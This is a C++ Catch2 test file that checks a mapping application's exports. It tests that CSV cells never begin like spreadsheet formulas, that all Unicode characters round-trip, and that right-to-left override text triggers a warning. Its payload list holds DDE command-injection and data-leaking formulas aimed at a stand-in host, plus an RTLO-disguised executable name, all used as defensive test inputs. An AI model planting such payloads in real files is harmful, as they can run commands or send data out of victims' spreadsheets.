// What leaves for other programs, as an outside reader finds it: no formula in a table, every
// character of Unicode's first plane, whole files.
#include "exchange/exchange_support.h"

#include "exchange/csv_table.h"
#include "exchange/spreadsheet_guard.h"
#include "model/edits.h"
#include "model/validate.h"
#include "support/printing.h"

#include <catch2/catch.hpp>

#include <QFile>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>

using namespace waymark;
using namespace Qt::Literals::StringLiterals;

namespace {

QStringList formulaPayloads() {
    const QStringList bodies{u"=1+1"_s,
                             u"+1+1"_s,
                             u"-1+1"_s,
                             u"@SUM(1)"_s,
                             u"=cmd|' /C calc'!A0"_s,
                             u"=HYPERLINK(\"http://x?\"&A1,\"see\")"_s,
                             u"=WEBSERVICE(\"http://x\")"_s,
                             u"=IMPORTXML(\"http://x\",\"//a\")"_s,
                             u"-2+3+cmd|' /C calc'!A0"_s,
                             u"＝1+1"_s,
                             u"＋1+1"_s,
                             u"－1+1"_s,
                             u"＠SUM(1)"_s};
    const QStringList fronts{{},          u" "_s,      u"\t"_s,     u"\n"_s,     u"'"_s,
                             u"\u00A0"_s, u"\uFEFF"_s, u"\u200B"_s, u"\u202E"_s, u"\u0001"_s};
    QStringList payloads;
    for (const QString& body : bodies)
        for (const QString& front : fronts)
            payloads += front + body;
    return payloads + QStringList{u"=\"\""_s,     u"-"_s,           u"+"_s,    u"@"_s,   u"="_s,
                                  u"-5 apples"_s, u"+49 30 1234"_s, u"''=1"_s, u"\r=1"_s};
}

// A map of one stage with a touchpoint and a card for each text.
Project mapWith(const QStringList& texts) {
    Changeset edit;
    const Map map{.id = {1}, .title = u"M"_s};
    const Stage stage{.id = {1}, .map = map.id, .name = u"S"_s};
    const Lane top{.id = {1}, .map = map.id, .lane = LaneKind::Touchpoints, .title = u"T"_s};
    const Lane lane{.id = {2}, .rank = 1, .map = map.id, .lane = LaneKind::Doing, .title = u"D"_s};
    edit.add(map);
    edit.add(stage);
    edit.add(top);
    edit.add(lane);
    for (qint64 i = 0; i < texts.size(); ++i) {
        edit.add(Touchpoint{.id = {i + 1}, .rank = i, .stage = stage.id, .name = texts[i]});
        edit.add(Note{.id = {i + 1},
                      .place = {.lane = lane.id, .stage = {}, .touchpoint = {i + 1}},
                      .text = texts[i]});
    }
    Project project;
    const auto done = project.apply(edit);
    if (!done)
        FAIL(done.error());
    return project;
}

QByteArray run(const QString& program, const QStringList& arguments, const QByteArray& input = {}) {
    QProcess process;
    process.start(program, arguments);
    INFO(program.toStdString());
    REQUIRE(process.waitForStarted());
    process.write(input);
    process.closeWriteChannel();
    REQUIRE(process.waitForFinished(60'000));
    INFO(process.readAllStandardError().toStdString());
    REQUIRE(process.exitCode() == 0);
    return process.readAllStandardOutput();
}

// The cells that the sqlite3 shell reads from a table with that separator; the first row as well.
QStringList cellsBySqlite(const QByteArray& table, char separator) {
    QTemporaryDir folder;
    QFile file(folder.filePath(u"t.csv"_s));
    REQUIRE(file.open(QIODevice::WriteOnly));
    file.write(table);
    file.close();
    const QByteArray columns = run(u"sqlite3"_s, {u":memory:"_s},
                                   QByteArray(".mode ascii\n.mode csv\n.separator \"") +
                                       (separator == '\t' ? "\\t" : ",") +
                                       "\" \"\\r\\n\"\n.import '" + file.fileName().toUtf8() +
                                       "' t\n.mode list\n.separator \"\\037\" \"\\036\"\n"
                                       "SELECT * FROM t;\n");
    QString text = QString::fromUtf8(columns);
    text.replace(QChar(0x1E), QChar(0x1F));
    return text.split(QChar(0x1F));
}

// As the strictest of spreadsheets would have it: whatever stands before the first visible
// character is skipped. A number is none.
bool beginsLikeFormula(const QString& cell) {
    static const QRegularExpression number(u"^[+-]?[0-9]+([.,][0-9]+)?$"_s);
    static const QRegularExpression formula(u"^[\\s\\p{C}\\p{Z}\\x{FFFD}]*[=+\\-@＝＋－＠]"_s);
    return !number.match(cell).hasMatch() && formula.match(cell).hasMatch();
}

// Every character of the first plane, a thousand to a text.
QStringList everyCharacter() {
    QStringList texts;
    QString text;
    for (int code = 0; code <= 0xFFFF; ++code) {
        text += QChar(char16_t(code));
        if (text.size() == 1'000 || code == 0xFFFF) {
            texts += cleanText(u'x' + text + u'x'); // lone surrogates and NUL become U+FFFD
            text.clear();
        }
    }
    return texts;
}

} // namespace

TEST_CASE("no cell of a table begins like a formula, whoever reads it") {
    const QStringList payloads = formulaPayloads();
    CHECK(payloads.size() > 60);
    const Project project = mapWith(payloads);
    for (const char separator : {',', '\t'}) {
        const auto exported =
            exportProject(project, {.format = Format::Csv, .separator = separator});
        REQUIRE(exported.ok());
        const QStringList cells = cellsBySqlite(exported->bytes, separator);
        CHECK(cells.size() > 2 * payloads.size());
        int guards = 0;
        for (const QString& cell : cells) {
            INFO(cell.toStdString());
            CHECK_FALSE(beginsLikeFormula(cell));
            guards += cell.startsWith(u'\'');
        }
        CHECK(guards >= 2 * payloads.size());
        // And nothing of the guard stays when the table comes back.
        const Imported back = importOk(Format::Csv, exported->bytes);
        QSet<QString> notes;
        for (const auto& [id, note] : back.project.all<Note>())
            notes.insert(note.text);
        for (const QString& payload : payloads) {
            // A table's blanks around a text are no part of it.
            const QString expected = cleanText(payload).trimmed();
            INFO(expected.toStdString());
            CHECK(notes.contains(expected));
        }
    }
}

TEST_CASE("every character leaves in every format and is there in those that can hold it") {
    const QStringList texts = everyCharacter();
    const Project project = mapWith(texts);
    for (const Format format :
         {Format::Json, Format::Ojf, Format::Csv, Format::Mermaid, Format::Markdown}) {
        INFO("format " << int(format));
        const auto exported = exportProject(project, {.format = format});
        REQUIRE(exported.ok());
        CHECK(exported->bytes.isValidUtf8());
        CHECK_FALSE(exported->bytes.contains('\0'));
        const Imported back = importOk(format, exported->bytes);
        CHECK(back.project.all<Touchpoint>().size() == project.all<Touchpoint>().size());
        if (format == Format::Mermaid || format == Format::Markdown)
            continue; // one line a text: breaks and blanks cannot stay as they were
        QSet<QString> notes;
        for (const auto& [id, note] : back.project.all<Note>())
            notes.insert(note.text);
        for (const QString& text : texts)
            CHECK(notes.contains(text));
        // Another program's parser takes it too.
        if (format == Format::Json || format == Format::Ojf) {
            QTemporaryDir folder;
            QFile file(folder.filePath(u"t.json"_s));
            REQUIRE(file.open(QIODevice::WriteOnly));
            file.write(exported->bytes);
            file.close();
            CHECK(run(u"sqlite3"_s,
                      {u":memory:"_s,
                       u"SELECT json_valid(CAST(readfile('%1') AS TEXT))"_s.arg(file.fileName())})
                      .trimmed() == "1");
        }
    }
}

TEST_CASE("text that turns the order of letters round is told of and kept") {
    const Imported made =
        importOk(Format::Csv, QString(u"Stage,Touchpoint\nA,photo\u202Egpj.exe\n"_s).toUtf8());
    CHECK(made.project.all<Touchpoint>().begin()->second.name == u"photo\u202Egpj.exe"_s);
    REQUIRE(made.warnings.size() == 1);
    CHECK(made.warnings[0].text.contains(u"U+202E"_s));
}

TEST_CASE("the same project gives the same bytes in every format") {
    for (const Format format :
         {Format::Json, Format::Ojf, Format::Csv, Format::Mermaid, Format::Markdown}) {
        // Two projects that are equal but were put together in another order.
        const Project one = mapWith({u"a"_s, u"b"_s, u"c"_s});
        Project other = mapWith({u"a"_s, u"b"_s});
        Changeset edit;
        edit.add(Note{
            .id = {3}, .place = {.lane = {2}, .stage = {}, .touchpoint = {3}}, .text = u"c"_s});
        edit.changes.insert(
            edit.changes.begin(),
            {std::nullopt, Record(Touchpoint{.id = {3}, .rank = 2, .stage = {1}, .name = u"c"_s})});
        REQUIRE(other.apply(edit).ok());
        REQUIRE(one == other);
        CHECK(exportProject(one, {.format = format})->bytes ==
              exportProject(other, {.format = format})->bytes);
    }
}
